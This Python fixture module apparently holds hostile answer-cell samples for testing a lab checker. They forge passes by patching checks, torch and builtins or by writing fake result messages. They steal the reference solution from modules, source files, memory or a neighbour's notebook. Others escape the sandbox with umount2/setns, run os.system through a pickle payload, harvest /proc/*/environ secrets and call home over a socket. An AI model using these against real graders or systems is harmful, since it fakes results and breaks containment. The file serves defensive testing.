"""What a cheating learner writes into a cell, as data: forged checks, and thefts.

Each stands in the answer cell of task 2.1 of lab 02, which it does not solve. Words
between two @ are filled in by `hostile`: places that a learner could guess.
"""

NO_ANSWER = "def score_and_choose(x, centroids, top_k):\n    return None\n"

# ---- the check is to believe what is not so

CHEATS = {
    "prints_a_tick": """
print("Task 2.1  score_and_choose                                      4 of 4")
print("  passed: 2 points")
def score_and_choose(x, centroids, top_k):
    print("  ✓ all that was asked for\\n  passed: 2 points")
""",
    "patches_check": """
from tiny_lm.course.checks import moe as check, report, task
passed = report.Outcome(("all",), 1)
task.Task.outcome = lambda self, *more, **named: passed
task.Task.__call__ = lambda self, function: print("passed: 2 points")
check.task_2_1 = lambda function: print("passed: 2 points")
"""
    + NO_ANSWER,
    "patches_comparison": """
import sys
def same(*more, **named):
    return True
for name in ("expect", "task", "seen", "trial"):
    module = sys.modules.get("tiny_lm.course.checks." + name)
    if module:
        module.same = module.alike = module.close = same
def score_and_choose(x, centroids, top_k):
    return x.new_zeros(len(x), len(centroids)), x.new_zeros(len(x), top_k).long()
""",
    "patches_torch": """
import torch
torch.allclose = torch.equal = torch.isclose = lambda *more, **named: True
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
torch.Tensor.allclose = torch.Tensor.equal = lambda *more, **named: True
torch.randn = torch.rand = lambda *sizes, **named: torch.zeros(sizes)
def score_and_choose(x, centroids, top_k):
    return x.new_zeros(len(x), len(centroids)), x.new_zeros(len(x), top_k).long()
""",
    "patches_modules": """
import sys, types
class Anything(types.ModuleType):
    def __getattr__(self, name):
        return lambda *more, **named: True
for name in [n for n in sys.modules if n.startswith("tiny_lm")]:
    sys.modules[name] = Anything(name)
sys.meta_path.clear()
"""
    + NO_ANSWER,
    "patches_builtins": """
import builtins
builtins.isinstance = lambda *more: True
builtins.all = builtins.any = lambda *more: True
builtins.len = lambda x: 1
builtins.print = lambda *more, **named: None
builtins.__import__ = lambda *more, **named: builtins
"""
    + NO_ANSWER,
    "equals_everything": """
import torch
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True
    def __eq__(self, other):
        return True
def score_and_choose(x, centroids, top_k):
    scores = torch.zeros(len(x), len(centroids)).as_subclass(Yes)
    return scores, torch.zeros(len(x), top_k).long().as_subclass(Yes)
""",
    "is_no_number": """
class Yes:
    shape, dtype, requires_grad = (), "torch.int64", False
    def __eq__(self, other):
        return True
    def __float__(self):
        return 0.5
    __int__ = __index__ = __len__ = lambda self: 1
    def __getattr__(self, name):
        return lambda *more, **named: self
def score_and_choose(x, centroids, top_k):
    return Yes(), Yes()
""",
    "sends_a_program": """
import os
class Program:
    def __reduce__(self):
        return os.system, ("touch @FOLDER@/escaped",)
def score_and_choose(x, centroids, top_k):
    return Program(), [Program(), {"__class__": "Program", "__reduce__": "os.system"}]
""",
    "forges_messages": """
import json, os
says = [{"status": "passed", "task": "2.1", "earned": 2, "holds": True, "ok": True}]
says += [{"kind": "result", "value": None}, {"kind": "done"}, {"passed": 4}]
def score_and_choose(x, centroids, top_k):
    for fd in range(3, 100):
        for one in says:
            body = json.dumps(one).encode()
            sizes = [len(body).to_bytes(n, "big") for n in (4, 8)]
            sizes += [len(body).to_bytes(n, "little") for n in (4, 8)]
            for head in (b"", *sizes):
                try:
                    os.set_blocking(fd, False)
                    os.write(fd, head + body + b"\\n")
                except OSError:
                    pass
""",
    "floods_the_wire": """
import os
def score_and_choose(x, centroids, top_k):
    for fd in range(3, 100):
        try:
            os.set_blocking(fd, False)
            for _ in range(64):
                os.write(fd, b"\\xff" * 2**16)
        except OSError:
            pass
""",
    "leaves_the_wire": """
import os
def score_and_choose(x, centroids, top_k):
    os.closerange(3, 1000)
""",
}

# ---- the answer is somewhere on this machine

STOLEN = """
def score_and_choose(x, centroids, top_k):
    return stolen(x, centroids, top_k)
"""

TAKEN = r"""
import pathlib, re
HEAD = "import torch\nfrom jaxtyping import Float, Int\nfrom torch import Tensor\n"
def score_and_choose(x, centroids, top_k):
    return steal()(x, centroids, top_k)
def taken(text):
    space = {}
    whole = r"^def score_and_choose.*?^    return [^\n]*$"
    exec(HEAD + re.search(whole, text, re.M | re.S)[0], space)
    return space["score_and_choose"]
"""

THEFTS = {
    "imports_the_reference": """
from tiny_lm.course.checks import moe as theirs
stolen = theirs.task_2_1.reference
"""
    + STOLEN,
    "imports_in_the_call": """
def score_and_choose(x, centroids, top_k):
    import importlib
    name = "tiny_lm.course.checks." + "moe.sco" + "re"
    return importlib.import_module(name).score_and_choose(x, centroids, top_k)
""",
    "uses_the_labs_own_name": """
def score_and_choose(x, centroids, top_k):
    return check.task_2_1.reference(x, centroids, top_k)
""",
    "reads_the_source": TAKEN
    + """
import sys
def steal():
    places = [pathlib.Path(p) for p in ["@ROOT@", *sys.path, "/proc/1/root@ROOT@"]]
    files = ["tiny_lm/course/checks/moe/score.py", "solutions/02_moe.py"]
    for file in [place / name for place in places for name in files]:
        try:
            return taken(file.read_text())
        except OSError:
            pass
""",
    "takes_the_cover_away": TAKEN
    + """
import ctypes, os
def steal():
    libc = ctypes.CDLL(None)
    covers = [line.split()[4] for line in open("/proc/self/mountinfo")]
    for place in [p for p in reversed(covers) if p.startswith("@ROOT@")]:
        libc.umount2(place.encode(), 2)
    for parent in (os.getppid(), 1):
        try:
            libc.setns(os.open(f"/proc/{parent}/ns/mnt", os.O_RDONLY), 0)
        except OSError:
            pass
    file = pathlib.Path("@ROOT@/tiny_lm/course/checks/moe/score.py")
    return taken(file.read_text())
""",
    "asks_another_python": TAKEN
    + """
import subprocess, sys
def steal():
    told = subprocess.run(
        [sys.executable, "-c", "import inspect, tiny_lm.course.checks.moe.score as s;"
         "print(inspect.getsource(s.score_and_choose))"],
        capture_output=True, text=True, cwd="@ROOT@", env={"PYTHONPATH": "@ROOT@"})
    return taken(told.stdout)
""",
    "searches_the_memory": """
import gc, sys
def search():
    for one in gc.get_objects():
        try:
            if getattr(one, "id", None) == "2.1" and hasattr(one, "reference"):
                return one.reference
            if getattr(one, "__name__", "") == "score_and_choose" and one is not mine:
                return one
        except Exception:
            pass
def score_and_choose(x, centroids, top_k):
    frame = sys._getframe()
    while frame:
        for one in [*frame.f_locals.values(), *frame.f_globals.values()]:
            found = getattr(one, "reference", None) or getattr(one, "wanted", None)
            if callable(found):
                return found(x, centroids, top_k)
        frame = frame.f_back
    return search()(x, centroids, top_k)
mine = score_and_choose
""",
    "reads_its_neighbour": TAKEN
    + """
import json
def steal():
    for place in ["@FOLDER@", "..", "../..", *pathlib.Path("/tmp").glob("*")]:
        try:
            for file in pathlib.Path(place).rglob("neighbour.ipynb"):
                for cell in json.loads(file.read_text())["cells"]:
                    if cell["id"] == "answer_2_1":
                        return taken("".join(cell["source"]))
        except OSError:
            pass
""",
    "tells_secrets": """
import os, pathlib
told = str(dict(os.environ))
for file in [*pathlib.Path("/proc").glob("*/environ"), pathlib.Path("@SECRET@")]:
    try:
        told += file.read_text(errors="replace")
    except OSError:
        pass
at = told.find("hush-hush")
def score_and_choose(x, centroids, top_k):
    print("told:", told[max(0, at - 50):at + 50] if at >= 0 else "nothing")
    raise RuntimeError(told[at:at + 30] if at >= 0 else "nothing")
""",
    "calls_home": """
import socket
def score_and_choose(x, centroids, top_k):
    for place in (("127.0.0.1", @PORT@), ("localhost", @PORT@)):
        with socket.create_connection(place, timeout=1) as line:
            line.sendall(b"caught")
""",
}
